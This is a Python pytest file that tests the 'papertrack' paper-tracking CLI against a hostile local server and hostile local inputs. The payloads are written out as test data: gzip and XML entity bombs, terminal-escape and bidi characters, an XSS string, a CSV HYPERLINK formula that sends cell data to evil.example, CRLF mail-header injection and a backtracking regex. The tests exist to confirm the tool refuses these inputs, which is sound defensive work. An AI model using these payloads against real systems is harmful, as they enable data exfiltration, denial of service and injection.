"""A hostile or broken server (behind HF_ENDPOINT or the arXiv URLs), and a few hostile
local inputs: each attack of the security review, against a real local server. Memory and
time are measured in a child process (tests/measure.py) and reported at the end of the run
(RELIABILITY.md quotes them)."""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import re
import stat
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
import zlib
from collections.abc import Iterator
from functools import cache
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from papertrack.errors import ParseError
from papertrack.parsers.arxiv import parse_xml
from papertrack.text import clean_line
from tests.conftest import ROOT, TODAY, run_cli, write_report
from tests.faults import _reply, json_fixture_items
from tests.hubserver import ARXIV_FIXTURES, HubServer, hf_fixture
from tests.test_cli import assert_one_error_line

MEASURE = Path(__file__).with_name("measure.py")
DAY = "2025-08-25"
PEAK_LIMIT_MB = 200
FIGURES: dict[str, dict[str, float]] = {}
DANGEROUS = "\x1b\x07\x9b\x9d\x85\u202e\u2066"


@pytest.fixture(scope="module", autouse=True)
def figures() -> Iterator[None]:
    yield
    if FIGURES:
        write_report("attacks", FIGURES)


def measured(name: str, hub: HubServer, *args: str, env: dict[str, str] | None = None) -> Any:
    """Run papertrack in a child under tests/measure.py; record its peak memory and time."""
    report = Path(os.environ["PAPERTRACK_TEST_REPORTS"]) / f"measure-{os.getpid()}.json"
    started = time.monotonic()
    proc = subprocess.run(
        [sys.executable, str(MEASURE), str(report), sys.executable, "-m", "papertrack", *args],
        cwd=ROOT,
        env={**os.environ, **(env or {})},
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    seconds = time.monotonic() - started
    peak = json.loads(report.read_text())["max_rss_kb"] / 1024
    FIGURES[name] = {"peak_mb": round(peak, 1), "seconds": round(seconds, 2)}
    proc.peak_mb = peak  # type: ignore[attr-defined]
    proc.seconds = seconds  # type: ignore[attr-defined]
    return proc


def no_traceback(result: Any) -> None:
    assert result.returncode != 70, result.stderr
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr


def serve_items(hub: HubServer, tmp_path: Path, items: list[dict[str, Any]]) -> None:
    path = tmp_path / "served.json"
    path.write_text(json.dumps(items, ensure_ascii=False), encoding="utf-8")
    hub.serve(TODAY, path)


def items() -> list[dict[str, Any]]:
    loaded: list[dict[str, Any]] = json.loads(hf_fixture(DAY).read_bytes())
    return loaded


# -- 1. compression bombs ---------------------------------------------------------------


@cache
def gzipped_zeros(size: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = bytes(1 << 20)
    parts = [packer.compress(block) for _ in range(size >> 20)]
    return b"".join(parts) + packer.flush()


def gzip_layers(body: bytes, layers: int) -> bytes:
    for _ in range(layers):
        packer = zlib.compressobj(9, zlib.DEFLATED, 31)
        body = packer.compress(body) + packer.flush()
    return body


def compressed(body: bytes, encoding: str) -> Any:
    def fault(h: BaseHTTPRequestHandler, path: str) -> bool:
        headers = {"content-type": "application/json", "content-encoding": encoding}
        return _reply(h, 200, body, headers)

    return fault


def test_stacked_gzip_is_refused_in_bounded_memory(hub: HubServer) -> None:
    body = gzip_layers(gzipped_zeros(1 << 30), 1)  # gzip(gzip(1 GiB of zeros)): ~5 KB
    assert len(body) < 64 * 1024
    hub.fault = compressed(body, "gzip, gzip")
    result = measured("gzip, gzip (1 GiB inside)", hub, "today")
    assert_one_error_line(result, 1, "unsupported Content-Encoding 'gzip, gzip'")
    assert result.peak_mb < PEAK_LIMIT_MB


def test_gzip_bomb_stops_at_the_cap(hub: HubServer) -> None:
    body = gzipped_zeros(1 << 30)  # ~1 MB that inflates to 1 GiB
    hub.fault = compressed(body, "gzip")
    result = measured("gzip, 1 MB to 1 GiB", hub, "today")
    assert_one_error_line(result, 1, "larger than 16 MB (after decompression)")
    assert result.peak_mb < 100


def test_gzip_is_read(hub: HubServer) -> None:
    hub.fault = compressed(gzip_layers(hf_fixture(DAY).read_bytes(), 1), "gzip")
    result = run_cli("today", "-f", "lines")
    assert result.returncode == 0, result.stderr
    assert len(result.stdout.splitlines()) == len(items())
    assert hub.requests[0].headers["accept-encoding"] == "gzip"


# -- 2. author matching ----------------------------------------------------------------


def test_huge_author_name_is_cut_and_matched_quickly(hub: HubServer, tmp_path: Path) -> None:
    served = items()[:3]
    served[0]["paper"]["authors"] = [{"name": "\ufdfa" * 1_500_000}, {"name": "Xu Li"}]
    served[1]["paper"]["title"] = "T" * 2_000_000
    served[1]["paper"]["summary"] = "word " * 1_000_000
    serve_items(hub, tmp_path, served)  # 11.5 MB: under the 16 MB cap
    result = measured("4.5 MB author name of U+FDFA", hub, "today", "--author", "x", "-f", "lines")
    no_traceback(result)
    assert result.returncode == 0, result.stderr
    cut = result.stderr.split(" has over-long ")[1].split(";")[0]
    assert set(cut.split(", ")) == {"title", "abstract", "authors"}, result.stderr
    assert result.stdout.count("\n") == 1  # only Xu Li's paper
    assert result.peak_mb < PEAK_LIMIT_MB
    # The same data through the filter language, folded without a Python object per
    # code point: the whole run stays well under the seconds the old fold took.
    query = run_cli("today", "-q", "author:muller", "--offline", "-f", "lines")
    assert query.returncode == 0, query.stderr


def test_fold_is_one_pass() -> None:
    from papertrack.matching import fold

    assert fold("Müller Ångström ÉCOLE") == "muller angstrom ecole"
    assert fold("\ufdfa") == fold("\ufdfa" * 1)  # NFKD expands it; no accents to drop
    assert len(fold("\ufdfa" * 1000)) == 18 * 1000


# -- 3. remote text that was not cleaned -------------------------------------------------


def test_url_fields_and_categories_never_reach_the_terminal(hub: HubServer, tmp_path: Path) -> None:
    served = items()[:2]
    paper = served[0]["paper"]
    paper["githubRepo"] = "https://github.com/a/b\x9b2J\x1b]0;x\x07"
    paper["projectPage"] = "https://example.org/\u202eevil"
    served[0]["thumbnail"] = "https://cdn.example/\x85x.png"
    served[0]["mediaUrls"] = ["https://cdn.example/\u2066m.mp4"]
    serve_items(hub, tmp_path, served)
    hub.papers[paper["id"]] = paper
    for args in (["today", "--long"], ["show", paper["id"]], ["show", paper["id"], "-f", "md"]):
        result = run_cli(*args, "--color", "always", tty=True)
        assert result.returncode == 0, result.stderr
        shown = result.stdout.replace("\x1b[", "")
        assert not any(ch in shown for ch in DANGEROUS if ch != "\x1b"), args
        assert "github.com/a/b" not in result.stdout  # dropped, not half-shown
    data = json.loads(run_cli("show", paper["id"], "-f", "json", "--offline").stdout)
    assert data["github_repo"] is None and data["project_page"] is None


def test_arxiv_primary_category_is_validated(hub: HubServer) -> None:
    body = (ARXIV_FIXTURES / "api_idlist_astro-ph-0601001_2026-05-11.xml").read_bytes()
    evil = "cs.AI&#13;&#x9b;2J` &lt;img src=x onerror=alert(1)&gt; `"  # CR, C1, HTML
    marker = b'<arxiv:primary_category term="astro-ph"/>'
    assert marker in body
    body = body.replace(marker, marker.replace(b"astro-ph", evil.encode()))
    hub.api_replies.append(("id_list", 200, body))
    result = run_cli("show", "astro-ph/0601001", "-f", "md")
    assert result.returncode == 0, result.stderr
    assert "<img" not in result.stdout and "\x9b" not in result.stdout and "\r" not in result.stdout
    record = json.loads(run_cli("show", "astro-ph/0601001", "-f", "json", "--offline").stdout)
    assert "cs.AI\r" not in json.dumps(record)


def test_content_type_in_an_error_is_cleaned(hub: HubServer) -> None:
    def fault(h: BaseHTTPRequestHandler, path: str) -> bool:
        return _reply(h, 200, b"not json", {"content-type": "text/x\x9b2J\x1b[31m\x85evil"})

    hub.fault = fault
    result = run_cli("today", tty=True)
    assert_one_error_line(result, 1, "a body that is not JSON")
    assert not any(ch in result.stderr for ch in DANGEROUS)


# -- 4. inputs that ended in "internal error" ------------------------------------------


def _hf_item_attack(kind: str) -> list[dict[str, Any]]:
    served = items()[:3]
    if kind == "version suffix":
        served[0]["paper"]["id"] = "2508.16153v" + "9" * 5000
    elif kind == "timestamp":
        served[0]["paper"]["publishedAt"] = "9999-12-31T23:59:59-23:59"
        served[0]["paper"]["submittedOnDailyAt"] = "0001-01-01T00:00:00+23:59"
    elif kind == "fullwidth digits":
        served[0]["paper"]["id"] = "２５０８.１６１５３"
    return served


@pytest.mark.parametrize("kind", ["version suffix", "timestamp", "fullwidth digits"])
def test_bad_hf_values_are_parse_failures(kind: str, hub: HubServer, tmp_path: Path) -> None:
    serve_items(hub, tmp_path, _hf_item_attack(kind))
    result = run_cli("today", "-f", "json")
    no_traceback(result)
    assert result.returncode == 0, result.stderr
    shown = json.loads(result.stdout)
    assert len(shown) == (3 if kind == "timestamp" else 2)


def test_deeply_nested_json_falls_back_to_the_other_source(hub: HubServer) -> None:
    hub.feed("cs.AI", "rss_cs.AI_2025-08-20_atom.xml")

    def fault(h: BaseHTTPRequestHandler, path: str) -> bool:
        if path.startswith("/api/daily_papers"):
            return _reply(h, 200, b"[" * 100_000 + b"]" * 100_000)
        return False

    hub.fault = fault
    result = run_cli("today", "--source", "all", "-c", "cs.AI", "-f", "lines")
    no_traceback(result)
    assert result.returncode == 0, result.stderr
    assert "JSON nested too deeply; showing the other source only" in result.stderr
    assert result.stdout


def test_unrequested_304_is_a_fetch_failure(hub: HubServer) -> None:
    hub.fault = lambda h, path: _reply(h, 304, b"", {"etag": '"x"'})
    result = run_cli("today", "--source", "arxiv", "-c", "cs.AI")
    assert_one_error_line(result, 1, "HTTP 304 Not Modified, but nothing was asked")


def test_non_ascii_etag_is_never_cached_or_sent(hub: HubServer, isolated_env: Path) -> None:
    hub.feed("cs.AI", "rss_cs.AI_2025-08-20_atom.xml")
    body = (ARXIV_FIXTURES / "rss_cs.AI_2025-08-20_atom.xml").read_bytes()

    def fault(h: BaseHTTPRequestHandler, path: str) -> bool:
        headers = {"content-type": "application/atom+xml", "etag": '"\u00e9t\u00e9"'}
        h.send_response(200)
        for name, value in headers.items():
            h.send_header(name, value)  # latin-1 on the wire, as a server may send it
        h.send_header("content-length", str(len(body)))
        h.end_headers()
        h.wfile.write(body)
        return True

    hub.fault = fault
    for _ in range(3):
        result = run_cli("today", "--source", "arxiv", "-c", "cs.AI", "--refresh")
        no_traceback(result)
        assert result.returncode == 0, result.stderr
    cached = next((isolated_env / "arxiv" / "rss").rglob("*.json"))
    assert json.loads(cached.read_text())["meta"]["etag"] is None
    assert all("if-none-match" not in r.headers for r in hub.requests)


@pytest.mark.parametrize("guid", ["２５０８.１３８７５", "a" * 200 + "/0101001"])
def test_bad_feed_ids_are_skipped(guid: str, hub: HubServer) -> None:
    body = (ARXIV_FIXTURES / "rss_cs.AI_2025-08-20_atom.xml").read_text(encoding="utf-8")
    first = body.index("<id>oai:arXiv.org:") + len("<id>oai:arXiv.org:")
    end = body.index("</id>", first)
    old = body[first:end]
    body = body.replace(old, guid).replace(f"arXiv:{old}", f"arXiv:{guid}")
    hub.feed("cs.AI", body.encode())
    result = run_cli("today", "--source", "arxiv", "-c", "cs.AI", "--long")
    no_traceback(result)
    assert result.returncode == 0, result.stderr
    assert "skipped 1 malformed item" in result.stderr


# -- 5. slow servers and retries: deadlines --------------------------------------------


def trickle(h: BaseHTTPRequestHandler, path: str) -> bool:
    h.send_response(200)
    h.send_header("content-type", "application/json")
    h.send_header("content-length", "1000000")
    h.end_headers()
    try:
        for _ in range(600):
            h.wfile.write(b" ")
            h.wfile.flush()
            time.sleep(0.25)
    except (BrokenPipeError, ConnectionResetError):
        pass
    return True


def test_a_trickling_server_is_cut_off_at_the_request_deadline(hub: HubServer) -> None:
    hub.fault = trickle
    result = measured("one byte every 0.25 s", hub, "today", env={"PAPERTRACK_TIMEOUT": "1"})
    assert_one_error_line(result, 1, "took more than 3 s to send one response")
    assert result.seconds < 3 + 1 + 2  # the deadline, one read timeout, start-up


def test_retries_stop_at_the_command_budget(hub: HubServer) -> None:
    def rate_limited(h: BaseHTTPRequestHandler, path: str) -> bool:
        return _reply(h, 429, b'{"error":"slow down"}', {"RateLimit": '"api";r=0;t=2'})

    hub.fault = rate_limited
    env = {"PAPERTRACK_BUDGET": "3", "PAPERTRACK_TIMEOUT": "1"}
    result = measured("429 on every request, --since 40d", hub, "list", "--since", "40d", env=env)
    no_traceback(result)
    assert result.returncode == 1
    assert "PAPERTRACK_BUDGET" in result.stderr
    assert result.seconds < 3 + 1 + 2


# -- 6. many full pages: byte budgets --------------------------------------------------


def big_pages(h: BaseHTTPRequestHandler, path: str) -> bool:
    """Every page full (100 items, ~5 MB), with new ids on every page and day."""
    query = {k: v[-1] for k, v in parse_qs(urlsplit(path).query).items()}
    page = int(query.get("p", 0))
    day = int(query.get("date", "2026-01-01")[-2:])
    template = json_fixture_items(DAY)[0]
    batch = []
    for n in range(100):
        item = json.loads(json.dumps(template))
        item["paper"]["id"] = f"2601.{day:02d}{page:01d}{n:02d}"[:10]
        item["paper"]["summary"] = "x" * 50_000
        batch.append(item)
    return _reply(h, 200, json.dumps(batch).encode(), {"content-type": "application/json"})


def test_a_listing_of_endless_full_pages_stops_at_its_budget(hub: HubServer) -> None:
    hub.fault = big_pages
    result = measured("full 5 MB pages, one day", hub, "today")
    no_traceback(result)
    assert result.returncode == 1
    assert "larger than 16 MB over" in result.stderr
    assert result.peak_mb < PEAK_LIMIT_MB


def test_a_range_stops_at_the_command_byte_budget(hub: HubServer, isolated_env: Path) -> None:
    listings: dict[str, int] = {}

    def three_big_pages(h: BaseHTTPRequestHandler, path: str) -> bool:
        """15 MB per listing (under its own 16 MB), every item with an id of its own."""
        query = {k: v[-1] for k, v in parse_qs(urlsplit(path).query).items()}
        page = int(query.get("p", "0"))
        if page > 2:
            return _reply(h, 200, b"[]")
        asked = query.get("month") or query.get("week") or query.get("date", "")
        number = listings.setdefault(asked, len(listings) % 10)
        template = json_fixture_items(DAY)[0]
        batch = []
        for n in range(100):
            item = json.loads(json.dumps(template))
            item["paper"]["id"] = f"2601.1{number}{page}{n:02d}"
            item["paper"]["summary"] = "x" * 50_000
            batch.append(item)
        return _reply(h, 200, json.dumps(batch).encode(), {"content-type": "application/json"})

    hub.fault = three_big_pages
    # A week, three months and a week: five listings of 15 MB.
    result = measured("15 MB per listing, --since 100d", hub, "list", "--since", "100d")
    no_traceback(result)
    assert result.returncode == 1
    assert "this command has received more than 48 MB" in result.stderr
    assert result.peak_mb < PEAK_LIMIT_MB
    written = sum(p.stat().st_size for p in isolated_env.rglob("*.json"))
    assert written < 80 * 1024 * 1024


# -- 7. CSV formulas -------------------------------------------------------------------


def test_csv_cells_are_never_formulas(hub: HubServer, tmp_path: Path) -> None:
    served = items()[:2]
    title = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
    served[0]["paper"]["title"] = title
    served[0]["paper"]["authors"] = [{"name": "@SUM(1+1)"}, {"name": "-2+3"}]
    serve_items(hub, tmp_path, served)
    rows = list(csv.DictReader(io.StringIO(run_cli("today", "-f", "csv").stdout)))
    row = next(r for r in rows if "HYPERLINK" in r["title"])
    assert row["title"] == "'" + title
    assert row["authors"] == "'@SUM(1+1); -2+3"
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    record = next(
        r for r in json.loads(run_cli("today", "-f", "json").stdout) if "HYPER" in r["title"]
    )
    assert record["title"] == title  # json stays byte-faithful
    assert title in run_cli("today", "-f", "lines").stdout


# -- 8. secrets ------------------------------------------------------------------------

TOKEN = "hf_SecretTokenValue0123456789abcdefABCDEF"


def test_a_token_with_a_newline_is_refused_without_printing_it(hub: HubServer) -> None:
    result = run_cli("today", env={"HF_TOKEN": f"{TOKEN}\nsecond line"})
    assert_one_error_line(result, 2, "HF_TOKEN is not a token")
    assert TOKEN[3:15] not in result.stderr
    assert not hub.requests


@pytest.mark.parametrize("echo", ["long", "base64"])
def test_echoed_tokens_are_redacted(echo: str, hub: HubServer) -> None:
    if echo == "long":
        message = "x" * 185 + f" you sent {TOKEN}"  # a cut at 200 characters once leaked half
    else:
        message = "got " + base64.b64encode(f"Authorization: Bearer {TOKEN}".encode()).decode()
    hub.fault = lambda h, path: _reply(h, 401, json.dumps({"error": message}).encode())
    result = run_cli("today", env={"HF_TOKEN": TOKEN})
    assert result.returncode == 1
    assert "***" in result.stderr
    leaked = [TOKEN[i : i + 8] for i in range(len(TOKEN) - 8)]
    assert not any(part in result.stderr for part in leaked)
    # Nor in any base64 run of the message, decoded at any alignment.
    for run in re.findall(r"[A-Za-z0-9+/=]{8,}", result.stderr):
        for start in range(4):
            chunk = run.replace("=", "")[start:]
            decoded = base64.b64decode(chunk[: len(chunk) // 4 * 4] or "AAAA")
            assert not any(part.encode() in decoded for part in leaked), run


def test_a_non_ascii_smtp_password_is_refused(hub: HubServer, tmp_path: Path) -> None:
    config = Path(os.environ["PAPERTRACK_CONFIG"])
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text(
        '[mail]\nhost = "127.0.0.1"\nport = 9\nfrom = "a@example.org"\nto = ["b@example.org"]\n'
        'username = "me"\nsecurity = "none"\n[watch.all]\nterms = ["agent"]\n'
    )
    hub.serve(TODAY, DAY)
    result = run_cli("digest", "--mail", env={"PAPERTRACK_SMTP_PASSWORD": "pässwörd"})
    assert_one_error_line(result, 2, "SMTP password has a character that is not printable ASCII")
    assert "ä" not in result.stderr


# -- 9. config edit and concurrent changes ---------------------------------------------


def test_config_edit_refuses_to_overwrite_a_concurrent_change(tmp_path: Path) -> None:
    config = Path(os.environ["PAPERTRACK_CONFIG"])
    assert run_cli("config", "set", "color", "never").returncode == 0
    editor = tmp_path / "editor.sh"
    editor.write_text(
        "#!/bin/sh\n"
        f"{sys.executable} -m papertrack config set format json\n"  # meanwhile, elsewhere
        "echo 'digest.max = 7' >> \"$1\"\n"
    )
    editor.chmod(0o755)
    result = run_cli("config", "edit", env={"EDITOR": str(editor)})
    assert result.returncode == 1
    assert "changed while you were editing it" in result.stderr
    draft = result.stderr.split("your edit is kept in ")[1].split()[0].rstrip(")")
    assert "digest.max = 7" in Path(draft).read_text()
    saved = config.read_text()
    assert 'format = "json"' in saved and 'color = "never"' in saved and "digest" not in saved


# -- low -------------------------------------------------------------------------------


def digest_config() -> None:
    config = Path(os.environ["PAPERTRACK_CONFIG"])
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text('[watch.all]\nterms = ["agent", "reasoning", "model"]\n')


def test_digest_keeps_other_pending_files_and_the_umask(hub: HubServer, tmp_path: Path) -> None:
    digest_config()
    hub.serve(TODAY, DAY)
    out = tmp_path / "out"
    out.mkdir()
    theirs = [out / ".thesis.pending", out / ".d.md.papertrack-0123456789ab-1.pending"]
    for path in theirs:
        path.write_text("keep me")
    old = os.umask(0o022)
    try:
        result = run_cli("digest", "-o", str(out / "d-{date}.md"))
    finally:
        os.umask(old)
    assert result.returncode == 0, result.stderr
    assert all(path.exists() for path in theirs)
    written = out / f"d-{TODAY}.md"
    assert stat.S_IMODE(written.stat().st_mode) == 0o644
    feed = out / "feed.xml"
    feed.write_text("")
    feed.chmod(0o640)
    assert run_cli(
        "digest", "-o", str(feed), "--format", "rss", "--since", str(TODAY)
    ).returncode in (0, 3)
    assert stat.S_IMODE(feed.stat().st_mode) == 0o640


def test_invisible_format_characters_are_dropped() -> None:
    invisible = "\u00ad\u061c\u180e\u200b\u2061\u3164\uffa0\U000e0041\U000e007f\u115f\ufeff"
    assert clean_line(f"Ag{invisible}ent") == "Agent"
    assert clean_line("naïve café 数学 🙂") == "naïve café 数学 🙂"


def test_a_backtracking_regex_is_stopped(hub: HubServer, tmp_path: Path) -> None:
    served = items()[:2]
    served[0]["paper"]["title"] = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"
    serve_items(hub, tmp_path, served)
    started = time.monotonic()
    result = run_cli("today", "-q", r"title:/^(\w+\s?)*$/")
    assert time.monotonic() - started < 5
    assert_one_error_line(result, 2, "took more than 0.5 s on one paper")


def test_a_planted_symlink_at_a_lock_is_one_line(hub: HubServer, tmp_path: Path) -> None:
    digest_config()
    hub.serve(TODAY, DAY)
    state = Path(os.environ["PAPERTRACK_STATE_DIR"])
    state.mkdir(parents=True)
    from papertrack.store.state import LOCK_NAME

    (state / LOCK_NAME).symlink_to(tmp_path / "missing" / "folder" / "lock")
    result = run_cli("digest")
    no_traceback(result)
    assert result.returncode == 1
    assert len(result.stderr.strip().splitlines()) == 1


@pytest.mark.parametrize("key", ["subject", "to", "from"])
def test_line_breaks_in_mail_headers_are_refused(key: str) -> None:
    if key != "to":  # a list from the command line is split at whitespace anyway
        result = run_cli("config", "set", f"mail.{key}", "news\r\nBcc: everyone@example.org")
        assert_one_error_line(result, 2, f"mail.{key}", "one line")
    config = Path(os.environ["PAPERTRACK_CONFIG"])
    config.parent.mkdir(parents=True, exist_ok=True)
    value = '["a@b.org\\r\\nBcc: x@example.org"]' if key == "to" else '"a\\r\\nBcc: x@example.org"'
    config.write_text(f"[mail]\n{key} = {value}\n")
    assert_one_error_line(run_cli("config", "show"), 2, f"mail.{key}", "one line")


def test_concurrent_cold_offline_searches(hub: HubServer, isolated_env: Path) -> None:
    for day in ("2025-08-25", "2025-09-30", "2025-10-24"):
        hub.serve(day, day)
        assert run_cli("list", "--date", day).returncode == 0
    (isolated_env / "index.sqlite3").unlink(missing_ok=True)
    for path in isolated_env.glob("index*"):
        path.unlink()
    children = [
        subprocess.Popen(
            [sys.executable, "-m", "papertrack", "search", "agent", "--offline", "-f", "lines"],
            cwd=ROOT,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for _ in range(3)
    ]
    outputs = [child.communicate(timeout=60) for child in children]
    assert [child.returncode for child in children] == [0, 0, 0], outputs
    assert all(err == "" for _, err in outputs), outputs
    assert len({out for out, _ in outputs}) == 1 and outputs[0][0]


def test_utf16_doctype_is_refused_by_the_parser() -> None:
    bomb = (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><r>&b;</r>'
    )
    body = bomb.encode("utf-16-le")  # no BOM: it starts with "<", and no byte says DOCTYPE
    assert body.startswith(b"<") and b"<!DOCTYPE" not in body
    with pytest.raises(ParseError, match="DOCTYPE"):
        parse_xml(body)
    assert parse_xml('<?xml version="1.0" encoding="UTF-16"?><r/>'.encode("utf-16-le")).tag == "r"
    assert isinstance(parse_xml(b"<r/>"), ET.Element)


def test_cache_from_another_endpoint_is_not_fresh(hub: HubServer) -> None:
    hub.serve(TODAY, DAY)
    assert run_cli("today").returncode == 0
    other = HubServer().start()
    try:
        other.serve(TODAY, "2025-09-30")
        result = run_cli("today", "-f", "lines", env={"HF_ENDPOINT": other.url})
        assert result.returncode == 0, result.stderr
        assert len(other.api_requests()) == 1, (other.requests, hub.requests, result.stderr)
        expected = len(json.loads(hf_fixture("2025-09-30").read_bytes()))
        assert len(result.stdout.splitlines()) == expected
    finally:
        other.stop()
